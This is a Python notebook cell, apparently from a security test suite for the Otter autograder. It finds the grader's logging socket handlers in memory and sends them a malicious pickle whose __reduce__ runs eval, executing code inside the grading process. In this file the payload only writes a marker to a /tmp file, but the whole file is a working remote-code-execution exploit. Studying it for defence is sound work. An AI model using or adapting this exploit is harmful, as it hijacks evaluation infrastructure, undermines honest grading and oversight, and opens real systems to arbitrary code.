"""Sends a pickle to the logging server that otter opens for its kernel: it unpickles whatever comes, in the grading process.

family: pickle
start: solved
"""

# %% first
import pickle
import socket
import struct


class _Payload:
    def __reduce__(self):
        code = (
            "[__import__('builtins').open('/tmp/autograder-attack-pickle_to_otters_logging_server', 'a').write("
            "'loaded by process ' + str(__import__('os').getpid()) + chr(10)), {'name': 'x', 'levelno': 0}][1]"
        )
        return (eval, (code,))


_places = set()
try:
    import gc
    import logging.handlers

    for _object in gc.get_objects():
        if isinstance(_object, logging.handlers.SocketHandler):
            _places.add((_object.host, _object.port))
except Exception:
    pass
for _place in _places:
    try:
        with socket.create_connection(_place, timeout=2) as _socket:
            _body = pickle.dumps(_Payload())
            _socket.sendall(struct.pack(">L", len(_body)) + _body)
    except Exception:
        continue
